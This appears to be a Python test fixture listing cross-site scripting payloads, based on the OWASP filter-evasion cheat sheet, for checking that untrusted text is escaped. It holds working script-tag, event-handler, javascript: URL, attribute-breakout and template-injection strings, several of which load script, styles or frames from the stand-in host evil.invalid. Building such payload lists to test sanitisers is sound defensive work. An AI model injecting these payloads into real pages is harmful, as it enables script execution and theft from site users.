"""What a stranger could put where text is shown; each would run, or fetch, if it were taken for markup.

After the OWASP cheat sheet on filter evasion, and what frameworks have let through. A payload that ran has set
``window.owned``, or asked for something of ``evil.invalid``.
"""

from __future__ import annotations

from typing import Final

_RUN: Final = "window.owned=1"
_TAGS: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x20type=text/javascript>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    "<script src=https://evil.invalid/x.js></script>",
    "<script src=//evil.invalid/x.js>",
    f"<script/x>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x" onerror="{_RUN}">',
    f"<img src=x:x onerror\x20={_RUN}>",
    f"<IMG SRC=x ONERROR={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror=eval('{_RUN}')>",
    "<img src=https://evil.invalid/p.png>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x>",
    "<svg><use href=https://evil.invalid/s.svg#a></use></svg>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<object data=https://evil.invalid/></object>",
    "<embed src=https://evil.invalid/>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<video src=x onerror={_RUN}></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={_RUN}>x</div>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>*{background:url(https://evil.invalid/b)}</style>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/>",
    "<form action=https://evil.invalid/><button autofocus>x</button></form>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='java&#115;cript:{_RUN}'>x</a>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
)
_BREAKS: Final = (
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'" autofocus onfocus={_RUN} x="',
    f"' onmouseover={_RUN} x='",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
)
_TEMPLATES: Final = (
    f"{{@html '<img src=x onerror={_RUN}>'}}",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{name, select, other {{<b onclick={_RUN}>}}}}",
    f"\u202e<img src=x onerror={_RUN}>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
)
PAYLOADS: Final = (*_TAGS, *_BREAKS, *_TEMPLATES)
